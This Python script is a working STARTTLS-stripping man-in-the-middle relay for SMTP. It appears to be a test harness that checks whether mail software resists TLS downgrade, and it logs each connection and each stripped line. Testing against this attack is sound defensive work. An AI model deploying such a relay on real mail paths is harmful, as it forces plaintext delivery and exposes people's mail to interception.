#!/usr/bin/python3
"""A man in the middle that strips STARTTLS: it relays SMTP between a client and an MX, and
removes the STARTTLS line from the MX's EHLO reply (fixing the last line's "250 "), as an
attacker on the path would to read the mail. Prints "ready" once it listens.

usage: strip_starttls.py LISTEN_ADDRESS LISTEN_PORT MX_ADDRESS MX_PORT

Every connection it relays and every line it removes is counted in the file named by
STRIP_LOG (if set): one line "connection" or "stripped" each.
"""
import asyncio
import os
import sys

LOG = os.environ.get("STRIP_LOG")


def note(what):
    if LOG:
        with open(LOG, "a") as f:
            f.write(what + "\n")


async def client_to_mx(reader, writer):
    try:
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    except (ConnectionError, asyncio.IncompleteReadError):
        pass
    finally:
        writer.close()


async def mx_to_client(reader, writer):
    """Copies the MX's replies, dropping STARTTLS from every multi-line 250 reply."""
    reply = []
    try:
        while line := await reader.readline():
            reply.append(line)
            if len(line) >= 4 and line[3:4] == b"-":
                continue  # more lines of this reply to come
            kept = [x for x in reply if x[4:].strip().upper() != b"STARTTLS"]
            if len(kept) != len(reply):
                note("stripped")
                if kept[-1][3:4] == b"-":
                    kept[-1] = kept[-1][:3] + b" " + kept[-1][4:]
            writer.write(b"".join(kept))
            await writer.drain()
            reply = []
    except (ConnectionError, asyncio.IncompleteReadError):
        pass
    finally:
        writer.close()


async def main():
    listen, listen_port, mx, mx_port = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])

    async def relay(client_reader, client_writer):
        note("connection")
        try:
            mx_reader, mx_writer = await asyncio.open_connection(mx, mx_port)
        except OSError:
            client_writer.close()
            return
        await asyncio.gather(client_to_mx(client_reader, mx_writer),
                             mx_to_client(mx_reader, client_writer))

    server = await asyncio.start_server(relay, listen, listen_port)
    print("ready", flush=True)
    async with server:
        # Until the test closes our stdin.
        loop = asyncio.get_running_loop()
        await loop.run_in_executor(None, sys.stdin.read)


asyncio.run(main())
